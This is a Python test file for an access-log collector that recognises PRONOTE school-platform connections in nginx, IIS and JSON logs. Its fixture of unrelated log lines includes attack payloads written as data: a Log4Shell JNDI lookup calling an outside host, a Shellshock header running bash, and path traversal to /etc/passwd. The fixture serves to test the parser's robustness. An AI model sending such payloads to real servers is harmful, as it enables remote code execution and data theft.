"""Formats, recognised line by line (rules.md 4), hosts, and everything that is no PRONOTE at all."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.collector.access_log import (
    AccessLog,
    Establishment,
    HostOfTwoError,
    SetAside,
    load_rules,
)
from services.collector.access_log.formats import BOM
from tests.services.collector.access_log.reading import (
    HOST,
    SECRET,
    UAI,
    access_log,
    at,
    connections,
    read,
    reasons,
)
from tests.support.access_logs import (
    APP,
    IIS_FIELDS,
    IIS_HEADER,
    Hit,
    call,
    combined,
    host_first,
    iis,
    nginx_json,
    opening,
    page,
)

TICKET = "ticket=ST-2847"


def visit(number: int = 7, **rest: Any) -> list[Hit]:
    """Through the ENT, on a host of ours."""
    rest.setdefault("host", HOST)
    calls = [call(at(5 + n), 3, number, f"{n:032x}", **rest) for n in range(1, 4)]
    return [page(at(), query=TICKET, **rest), opening(at(5), 3, number, **rest), *calls]


ONE = [(at(5), "eleve", "web", "ent")]


# --- formats


@pytest.mark.parametrize("zone", ["Europe/Paris", "UTC", "Pacific/Marquesas", "Indian/Reunion"])
def test_combined_and_json_say_their_offset(zone):
    assert connections(read([combined(hit, zone) for hit in visit()])) == ONE
    assert connections(read([nginx_json(hit, zone) for hit in visit()])) == ONE


def test_a_leading_host_is_recognised_or_told():
    assert connections(read([host_first(hit) for hit in visit()])) == ONE
    assert connections(read([host_first(hit) for hit in visit()], access_log(host_first=True))) == ONE


def test_a_leading_address_as_host_has_to_be_told():
    lines = [host_first(hit) for hit in visit(host="10.1.2.3")]
    log = AccessLog([Establishment(UAI, ("10.1.2.3",))], SECRET, host_first=True)
    assert connections(read(lines, log)) == ONE


def test_told_that_hosts_come_first_a_line_without_one_is_the_setting_s_own():
    assert connections(read([combined(hit) for hit in visit()], access_log(host_first=True))) == ONE


def test_a_user_name_with_a_blank_is_no_host():
    lines = [combined(hit).replace(b" - - [", b" - Jean Dupont [") for hit in visit()]
    assert connections(read(lines)) == ONE


def test_what_follows_a_combined_line_does_not_matter():
    assert connections(read([combined(hit) + b' "203.0.113.9" 0.031 upstream=1' for hit in visit()])) == ONE


def test_iis_is_in_utc_and_has_its_columns_told():
    assert connections(read([*IIS_HEADER, *(iis(hit) for hit in visit())])) == ONE


def test_iis_may_write_other_columns_from_one_line_to_the_next():
    names = "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)"
    first, second, *rest = [iis(hit).split(b" ") for hit in visit()]
    short = [b" ".join(line[n] for n in (0, 1, 8, 3, 4, 5, 12, 9)) for line in rest]
    lines = [*IIS_HEADER, b" ".join(first), b" ".join(second), f"#Fields: {names}".encode(), *short]
    facts = read(lines)
    assert reasons(facts) == {"call_without_session": 3}, "a line without a host is of another session"
    assert connections(facts) == []


def test_iis_without_query_strings_says_nothing_of_the_ent():
    lines = [*IIS_HEADER, *(iis(hit).replace(TICKET.encode(), b"-") for hit in visit())]
    assert connections(read(lines)) == [(at(5), "eleve", "web", "unknown")]


def test_columns_are_those_of_their_file():
    """Two IIS servers, each with its columns, read turn by turn."""
    other = IIS_FIELDS.replace("c-ip cs(User-Agent)", "cs(User-Agent) c-ip")
    a, b = [iis(hit) for hit in visit()], []
    for line in (iis(hit) for hit in visit(8, address="192.0.2.8")):
        parts = line.split(b" ")
        parts[8], parts[9] = parts[9], parts[8]
        b.append(b" ".join(parts))
    log = access_log()
    facts = log.read(IIS_HEADER, file="a", now=at(hours=1).timestamp())
    facts += log.read([f"#Fields: {other}".encode()], file="b", now=at(hours=1).timestamp())
    for line_of_a, line_of_b in zip(a, b, strict=True):
        facts += log.read([line_of_a], file="a", now=at(hours=1).timestamp())
        facts += log.read([line_of_b], file="b", now=at(hours=1).timestamp())
    assert connections([*facts, *log.flush()]) == ONE * 2


def test_iis_lines_before_any_columns_are_unreadable():
    assert reasons(read([iis(hit) for hit in visit()])) == {"unreadable": 4}


def test_json_escaped_the_old_way_of_nginx():
    agent = r"Mozilla/5.0 (\x22odd\x22) caf\xC3\xA9"
    lines = [nginx_json(hit).replace(b"Mozilla/5.0", agent.encode()) for hit in visit()]
    with pytest.raises(json.JSONDecodeError):
        json.loads(lines[0])
    assert connections(read(lines)) == ONE


def test_json_with_bytes_that_are_no_utf_8():
    assert connections(read([nginx_json(hit).replace(b"Gecko", b"Gecko\xe9") for hit in visit()])) == ONE


def test_json_may_write_the_status_as_a_number_and_fields_of_its_own():
    lines = [
        nginx_json(hit).replace(b'"200"', b"200").replace(b"{", b'{"pipe": [1, {"x": null}], ', 1) for hit in visit()
    ]
    assert connections(read(lines)) == ONE


def test_ends_of_lines_and_marks_of_windows_do_not_matter():
    lines = [b"\xef\xbb\xbf" + combined(visit()[0]), *(combined(hit) + b"\r\n" for hit in visit()[1:])]
    assert connections(read(lines)) == ONE


@pytest.mark.parametrize("root", ["", "/pronote", "/a/b/college", "/pronote.net", "/eleve.html"])
def test_the_root_is_any_path(root):
    lines = [combined(hit).replace(b" /pronote/", f" {root}/".encode()) for hit in visit()]
    assert connections(read(lines)) == ONE


# --- hosts


@pytest.mark.parametrize(
    "host",
    [HOST, HOST.upper(), f"{HOST}:8443", f"{HOST}.", "0750001u.index-education.net", "0750001U.INDEX-EDUCATION.NET"],
)
def test_hosts_of_an_establishment(host):
    assert connections(read([nginx_json(hit) for hit in visit(host=host)])) == ONE


@pytest.mark.parametrize("host", ["0750002v.index-education.net", "example.org", "evil\u0000host", "a" * 300, "-" * 9])
def test_other_hosts_are_counted_by_session_and_nothing_else(host):
    facts = read([nginx_json(hit) for hit in visit(host=host)])
    assert reasons(facts) == {"other_host": 1}
    assert connections(facts) == []


@pytest.mark.parametrize("host", ["", "-"])
def test_without_a_host_it_is_the_setting_s_establishment(host):
    assert connections(read([nginx_json(hit) for hit in visit(host=host)])) == ONE


def test_without_a_host_it_is_nobody_s_in_a_log_of_several():
    several = AccessLog([Establishment(UAI), Establishment("0750002V")], SECRET)
    assert reasons(read([combined(hit) for hit in visit()], several)) == {"other_host": 1}


def test_one_host_given_for_two_establishments():
    with pytest.raises(HostOfTwoError, match=r"a\.example"):
        AccessLog([Establishment(UAI, ("a.example",)), Establishment("0750002V", ("A.example:443",))], SECRET)


# --- what is no PRONOTE, or cannot be read

OTHER_SITES = rb"""
83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"
93.180.71.3 - - [17/May/2015:08:05:32 +0000] "GET /downloads/product_1 HTTP/1.1" 304 0 "-" "Debian APT-HTTP/1.3 (0.8.16~exp12ubuntu10.21)"
127.0.0.1 user-identifier frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326
www.example.org:80 203.0.113.7 - - [20/Nov/2026:08:00:00 +0100] "GET / HTTP/1.1" 200 3380 "-" "Mozilla/5.0"
54.36.149.41 - - [22/Jan/2019:03:56:14 +0330] "GET /filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84/parent.html HTTP/1.1" 200 30577 "-" "Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)" "-"
192.0.2.8 - - [20/Nov/2026:08:00:01 +0100] "\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03" 400 157 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:01 +0100] "" 400 0 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:02 +0100] "GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1" 404 162 "${jndi:ldap://203.0.113.5/a}" "${jndi:ldap://203.0.113.5/a}"
192.0.2.8 - - [20/Nov/2026:08:00:03 +0100] "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" "() { :; }; /bin/bash -c \x22id\x22"
192.0.2.8 - - [20/Nov/2026:08:00:03 +0100] "GET /?q=/pronote/appelfonction/3/1/3fa959b13967e0ef176069e01e23c8d7 HTTP/1.1" 200 9 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:03 +0100] "POST /search?q=/appelfonction/3/1/3fa959b13967e0ef176069e01e23c8d7 HTTP/1.1" 200 9 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:03 +0100] "GET / HTTP/1.1" 200 9 "https://x/pronote/appelfonction/3/1/3fa959b13967e0ef176069e01e23c8d7" "-"
192.0.2.8 - - [20/Nov/2026:08:00:04 +0100] "POST /appelfonction/../../etc/passwd HTTP/1.1" 400 0 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:04 +0100] "POST /pronote/appelfonction/ HTTP/1.1" 404 0 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:04 +0100] "POST /pronote/appelfonction/99999999999999999999/1/a HTTP/1.1" 404 0 "-" "-"
192.0.2.8 - - [20/Nov/2026:08:00:05 +0100] "CONNECT example.com:443 HTTP/1.1" 405 0 "-" "-"
{"time_local":"20/Nov/2026:08:00:00 +0100","remote_addr":"192.0.2.8","request":"GET / HTTP/1.1","status": "200"}
{"time_iso8601":"2026-11-20T08:00:00+01:00","message":"no access log at all"}
{"level":"info","ts":1763625600.1,"msg":"handled request","request":{"remote_ip":"192.0.2.8","method":"GET","uri":"/eleve.html"}}
2026/11/20 08:00:00 [error] 123#123: *1 open() "/var/www/eleve.html" failed (2: No such file or directory), client: 192.0.2.8
#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status
2026-11-20	07:00:00	CDG50-C1	1045619	192.0.2.8	GET	d111.example.net	/eleve.html	200
#Fields:
"""


def test_logs_of_other_sites_count_nothing():
    lines = OTHER_SITES.split(b"\n")
    assert len(lines) > 20
    assert set(read(lines)) <= {SetAside("unreadable")}


def test_logs_of_other_sites_in_between_change_nothing():
    noise = OTHER_SITES.split(b"\n")
    lines = [each for hit in visit() for each in (*noise, combined(hit))]
    assert connections(read(lines)) == ONE
    facts = [fact for fact in read([*lines, *noise]) if fact != SetAside("unreadable")]
    assert facts == read([combined(hit) for hit in visit()])


@pytest.mark.parametrize(
    "line",
    [
        b"POST /pronote/appelfonction/3/7/0123",
        b'192.0.2.1 - - [31/Feb/2026:08:12:31 +0100] "POST /pronote/appelfonction/3/7/0123 HTTP/1.1" 200 5 "-" "x"',
        b'192.0.2.1 - - [20/Nov/2026:08:12:31 +0100] "POST /pronote/appelfonction/3/7/0123 HTTP/1.1" 200 5',
        b'192.0.2.1 - - [20/Nov/2026:08:12:31] "POST /pronote/appelfonction/3/7/0123 HTTP/1.1" 200 5 "-" "x"',
        b'{"time_iso8601":"2026-11-20T08:12:31","remote_addr":"::1","request":"POST /pronote/appelpolling/3/7/0123 HTTP/1.1","status":200}',
        b'{"request":"POST /pronote/uploadfilesession/3/7',
        combined(call(at(), 3, 7, "a" * 32, agent="x" * 65_536)),
        b"/uploadfilesession/" + b"\x00\xff" * 40_000,
    ],
)
def test_a_line_that_names_a_call_and_cannot_be_read_is_counted(line):
    assert read([line]) == [SetAside("unreadable")]


@pytest.mark.parametrize(
    "line",
    [
        b"Bad line",
        b"{}",
        b'192.0.2.1 - - [31/Feb/2026:08:12:31 +0100] "GET / HTTP/1.1" 200 5 "-" "x"',
        b"2026/11/20 08:12:31 [error] 7#7: *1 open() failed",
    ],
)
def test_a_line_in_no_format_is_counted(line):
    assert read([line]) == [SetAside("unreadable")]


@pytest.mark.parametrize("line", [b"", b" \r", BOM, b"#Software: Microsoft IIS", BOM + b"#Version: 1.0"])
def test_a_line_that_says_nothing_is_nothing(line):
    assert read([line]) == []


def test_lines_cut_short_by_a_full_disk():
    whole = combined(visit()[2])
    for end in range(len(whole)):
        assert {fact.reason for fact in read([whole[:end]]) if isinstance(fact, SetAside)} <= {
            "unreadable",
            "call_without_session",
        }


@given(lines=st.lists(st.binary(max_size=300), max_size=20))
def test_garbage_is_at_most_unreadable(lines):
    assert set(read(lines)) <= {SetAside("unreadable")}


MUTATIONS = st.lists(st.tuples(st.integers(0, 400), st.binary(max_size=4)), min_size=1, max_size=6)


@given(mutations=MUTATIONS, which=st.integers(0, 4), written=st.sampled_from([combined, host_first, nginx_json, iis]))
def test_damaged_lines_never_stop_the_reading(mutations, which, written):
    line = written(visit()[which])
    for place, put in mutations:
        line = line[:place] + put + line[place + len(put) :]
    damaged = read([*IIS_HEADER, line])
    assert connections(damaged) == []
    # Five others, of nobody met before, are read as if nothing had happened.
    apart = [written(hit) for hit in visit(70, address="198.51.100.70", agent=APP)]
    facts = read([*IIS_HEADER, line, *apart])
    assert connections(facts)[-1:] == [(at(5), "eleve", "mobile", "ent")]


@pytest.mark.parametrize(
    "attack", [b"/" * 60_000, b"\\" * 60_001, b" " * 60_000, b'"' * 60_000, b"[" * 60_000, b"appelfonction/" * 4_000]
)
@pytest.mark.parametrize(
    "front", [b"", b'1.2.3.4 - - [20/Nov/2026:08:12:31 +0100] "POST ', b"{", b'{"request": "', b"1.2.3.4 - - "]
)
def test_long_lines_made_to_be_slow_are_not(attack, front):
    line = front + b"appelfonction" + attack + b" x"
    for _ in range(20):
        assert connections(read([line])) == []


# --- rules as data


def test_later_years_amend_the_earlier_ones():
    assert load_rules(2024).year == 2024
    assert 39 not in load_rules(2024).espaces
    newest = load_rules()
    assert newest.year >= 2025
    assert newest.espaces[39].mobile
    assert newest.pages == load_rules(2024).pages


def test_the_espaces_are_those_of_the_specification():
    espaces = load_rules().espaces
    assert set(espaces) == {*range(10), *range(13, 40)}
    assert {n for n, espace in espaces.items() if espace.mobile} == {
        *(6, 7, 8, 9, 14, 17, 21, 22, 24, 26, 28, 30, 32, 34, 36, 38, 39)
    }
    assert {n for n, espace in espaces.items() if not espace.profile} == {
        0,
        4,
        5,
        9,
        15,
        18,
        29,
        30,
        33,
        34,
        35,
        36,
        39,
    }
